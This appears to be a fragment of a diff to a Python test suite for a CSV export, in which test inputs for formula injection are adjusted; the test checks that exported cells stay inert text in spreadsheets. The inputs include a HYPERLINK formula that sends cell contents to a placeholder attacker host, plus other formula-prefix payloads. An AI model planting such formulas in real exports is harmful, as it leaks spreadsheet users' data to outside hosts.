@@ -254,7 +254,7 @@ def test_export_csv_and_json_carry_every_request(log: Path) -> None:
     assert data[0]["attention"] == "overdue" and data[2]["attention"] == "due_soon"
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Aino")', "+358 40 123", "-2+3", "@SUM(A1)"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Aino")', "+358 40 123+A1", "-2+3", "@SUM(A1)"]
 
 
 def test_export_csv_cells_are_text_in_a_spreadsheet(log: Path) -> None:
